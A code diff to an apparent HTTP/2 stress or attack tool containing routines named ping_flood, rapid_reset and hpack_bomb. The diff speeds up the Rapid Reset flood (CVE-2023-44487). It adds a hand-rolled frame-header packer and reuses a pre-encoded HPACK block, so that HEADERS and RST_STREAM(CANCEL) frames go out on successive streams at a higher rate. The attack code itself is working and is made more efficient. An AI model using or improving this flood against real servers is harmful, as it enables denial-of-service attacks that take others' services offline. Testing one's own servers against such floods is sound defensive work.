@@ -27,6 +27,7 @@ import os
 import select
 import socket
 import ssl
+import struct
 import sys
 import time
 
@@ -57,6 +58,11 @@ def hpack_int(value: int, prefix_bits: int, first_byte_flags: int = 0) -> bytes:
         value >>= 7
     out.append(value)
     return bytes(out)
+
+
+def frame_header(length: int, kind: int, flags: int, stream_id: int) -> bytes:
+    """RFC 9113 §4.1, for the floods' hot loops (hyperframe's serialize() is slower)."""
+    return struct.pack(">I", length)[1:] + struct.pack(">BBI", kind, flags, stream_id)
 
 
 def literal_not_indexed(name: bytes, value: bytes) -> bytes:
@@ -224,18 +230,21 @@ def ping_flood(connection: Connection):
 def rapid_reset(connection: Connection):
     """HEADERS then RST_STREAM(CANCEL) on each new stream (CVE-2023-44487): the stream count
     never reaches MAX_CONCURRENT_STREAMS, each request costs the server its decision."""
-    state = {"next": 1}
+    fields = base_fields("/rapid-reset")
+    first = connection.headers(1, fields) + RstStreamFrame(1, error_code=CANCEL).serialize()
+    block = connection.encoder.encode(fields)  # every field now indexed: the same bytes each time
+    state = {"next": 3}
 
     def more():
         out = bytearray()
         while len(out) < CHUNK:
             stream_id = state["next"]
             state["next"] += 2
-            out += connection.headers(stream_id, base_fields("/rapid-reset"))
-            out += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
+            out += frame_header(len(block), 0x1, 0x5, stream_id) + block  # HEADERS, END_STREAM|END_HEADERS
+            out += frame_header(4, 0x3, 0, stream_id) + struct.pack(">I", CANCEL)  # RST_STREAM
         return bytes(out)
 
-    return b"", more
+    return first, more
 
 
 def hpack_bomb(connection: Connection):
